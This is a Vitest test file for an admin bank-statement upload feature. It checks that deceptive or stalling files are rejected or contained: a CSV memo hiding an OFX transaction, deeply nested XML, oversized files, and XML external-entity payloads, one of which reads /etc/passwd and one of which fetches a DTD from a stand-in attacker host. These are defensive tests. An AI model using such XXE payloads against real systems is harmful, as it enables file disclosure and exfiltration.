import { performance } from 'node:perf_hooks';
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { createOrResetAdmin } from '~/features/admin-auth/admins.server';
import { seedDefaultSettings } from '~/features/settings/settings.server';
import { db } from '~/lib/db/db.server';
import { placeTestOrder } from '../../../tests/helpers/orders';
import { signInCookie, TEST_ADMIN } from '../../../tests/helpers/admin';
import { callRoute, formRequest, getRequest } from '../../../tests/helpers/route-call';
import { action as upload } from './route';
import { action as preview, loader as previewPage } from '../admin.statement/route';

// Statement files made to deceive or to stall, uploaded as the red team uploaded them: a bank CSV whose
// memo holds an OFX transaction, XML that declares entities or nests without end, a file past the line
// cap, and a long OFX statement while the site must keep answering.

let cookie: string;
const FIXTURES = path.resolve(import.meta.dirname, '../../../tests/fixtures/statements');

beforeAll(async () => {
  await seedDefaultSettings();
  await createOrResetAdmin(TEST_ADMIN.email, TEST_ADMIN.password);
  cookie = await signInCookie();
});

function multipart(name: string, bytes: Uint8Array | string) {
  const form = new FormData();
  form.set('statement', new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name));
  return new Request('http://localhost/admin/statements', { method: 'POST', body: form, headers: { Cookie: cookie } });
}

async function statementCount(): Promise<number> {
  return Number((await db.selectFrom('bank_statements').select(db.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
}

async function previewOf(location: string) {
  const id = location.split('/').pop()!;
  return (await callRoute(previewPage, getRequest(location, { Cookie: cookie }), {}, { id })).data;
}

describe('a memo that holds another format', () => {
  it('a $1.00 transfer whose memo holds a $79.99 OFX transaction is read as CSV with 2 lines, and lands in Amount differs', async () => {
    const victim = await placeTestOrder({ name: 'Vera Victim', email: 'vera@example.com', plan: 'Yearly', price: '$79.99' });
    const compact = victim.reference.replaceAll('-', '').toLowerCase();
    const memo = `<OFX><STMTTRN><TRNAMT>79.99<DTPOSTED>20261126<FITID>x<MEMO>${compact}</STMTTRN>`;
    const file = ['Date,Description,Amount', `11/26/2026,"${memo}",1.00`, '11/26/2026,"ACH CREDIT JOHN ROE",149.00'].join('\r\n');
    const uploaded = await callRoute(upload, multipart('bank.csv', file));
    expect(uploaded.status).toBe(302);
    const page = await previewOf(uploaded.location!);
    expect(page.summary).toEqual({ format: 'csv', read: 2, kept: 2, debits: 0, zeros: 0, unbooked: 0 });
    const groups = Object.fromEntries(page.groups.map((g: { group: string; lines: unknown[] }) => [g.group, g.lines]));
    expect(groups.matched).toEqual([]);
    expect(groups['amount-differs']).toEqual([
      expect.objectContaining({ reference: victim.reference, amount: '$1.00', orderAmount: '$79.99', memo }),
    ]);
    expect(page.matched).toMatchObject({ count: 0, totalCents: 0 });
    // Confirm {N} Matched Orders, sent anyway (answering its question), confirms nothing: the order still waits for its $79.99.
    const id = uploaded.location!.split('/').pop()!;
    await callRoute(
      preview,
      formRequest(uploaded.location!, { intent: 'confirm-matched', count: '0', totalCents: '0' }, { Cookie: cookie }),
      {},
      { id },
    );
    const order = await db.selectFrom('ach_orders').select(['status', 'license_key']).where('id', '=', victim.id).executeTakeFirstOrThrow();
    expect(order).toEqual({ status: 'pending', license_key: null });
  });
});

describe('malformed XML gets its line and a 400, and nothing is stored', () => {
  const camt = fs.readFileSync(path.join(FIXTURES, 'camt053.xml'), 'utf8');
  const deep = Array.from({ length: 80 }, () => '<x>').join('\n') + Array.from({ length: 80 }, () => '</x>').join('');
  const FILES: [string, string, string][] = [
    [
      'an external entity',
      camt.replace('<Document', '<!DOCTYPE Document [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<Document').replace('ORD-7K3M-9QA2', '&e;'),
      'Line 2: the file declares a document type or entities, which a bank statement never does (“<!DOCTYPE”). Nothing was stored.',
    ],
    [
      'a parameter entity',
      camt.replace('<Document', '<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.test/p.dtd"> %p;]>\n<Document'),
      'Line 2: the file declares a document type or entities, which a bank statement never does (“<!DOCTYPE”). Nothing was stored.',
    ],
    [
      'an entity it never defines',
      camt.replace('ORD-7K3M-9QA2', '&e;'),
      'Line 29: the file uses an entity it does not define (a statement may use only &amp;, &lt;, &gt;, &quot; and &apos;) (“&e;”). Nothing was stored.',
    ],
    ['deep nesting', camt.replace('ORD-7K3M-9QA2', deep), 'Line 85: the XML nests deeper than 64 levels (“<x>”). Nothing was stored.'],
  ];

  for (const [what, file, message] of FILES) {
    it(`${what}`, async () => {
      const before = await statementCount();
      const outcome = await callRoute(upload, multipart('camt.xml', file));
      expect([outcome.status, outcome.data]).toEqual([400, { errors: { statement: message } }]);
      expect(await statementCount()).toBe(before);
    });
  }
});

describe('long statements', () => {
  const ofx = (transactions: number) =>
    [
      'OFXHEADER:100',
      'DATA:OFXSGML',
      '',
      '<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>USD<BANKACCTFROM><ACCTID>77001</BANKACCTFROM><BANKTRANLIST>',
      ...Array.from(
        { length: transactions },
        (_, i) =>
          `<STMTTRN>\n<TRNTYPE>CREDIT\n<DTPOSTED>20261120\n<TRNAMT>${(i % 200) + 1}.99\n<FITID>LONG-${transactions}-${i}\n<NAME>PAYER ${i}\n<MEMO>ACH CREDIT ORD-${String(i).padStart(4, '0')}-ZZZZ\n</STMTTRN>`,
      ),
      '</BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>',
    ].join('\n');

  it('20,001 lines are refused whole, with how to split the file, and nothing is stored', async () => {
    const before = await statementCount();
    const outcome = await callRoute(upload, multipart('year.ofx', ofx(20_001)));
    expect(outcome.status).toBe(400);
    expect(outcome.data.errors.statement).toBe(
      `Line ${4 + 8 * 20_000 + 1}: the statement holds more than 20,000 lines: split the file into parts of at most 20,000 lines. Nothing was stored.`,
    );
    expect(await statementCount()).toBe(before);
  });

  it('a 10,000-line OFX import keeps the event loop turning: no single stall holds a quarter of the import (the best of three)', async () => {
    // Measured as shares of the import's own time, not as milliseconds: a shared machine that makes
    // the process wait for a CPU slows the import and its stalls alike, while code that holds the
    // loop for the whole import stalls it once, for all of it.
    const shares: number[] = [];
    for (let run = 1; run <= 3; run++) {
      const file = ofx(10_000).replaceAll(`LONG-10000-`, `LONG-${run}-`);
      const turns: number[] = [];
      let turning = true;
      const turn = () => {
        turns.push(performance.now());
        if (turning) setImmediate(turn);
      };
      turn();
      const outcome = await callRoute(upload, multipart(`long-${run}.ofx`, file));
      turning = false;
      turns.push(performance.now());
      expect(outcome.status).toBe(302);
      expect((await previewOf(outcome.location!)).summary).toMatchObject({ format: 'ofx', read: 10_000, kept: 10_000 });
      const total = turns.at(-1)! - turns[0]!;
      // A loop, not Math.max(...): on PostgreSQL the loop turns hundreds of thousands of times.
      let longest = 0;
      for (let index = 1; index < turns.length; index++) longest = Math.max(longest, turns[index]! - turns[index - 1]!);
      expect(turns.length, 'the loop turned while the file was imported').toBeGreaterThan(10);
      shares.push(longest / total);
    }
    expect(
      Math.min(...shares),
      `longest stall as a share of the import: ${shares.map((share) => share.toFixed(2)).join(', ')}`,
    ).toBeLessThan(0.25);
    // Three imports of 10,000 lines: 8 s on a quiet 2-core machine, past the default 20 s when every
    // core is busy with the other test files (the shares above hold either way).
  }, 90_000);
});
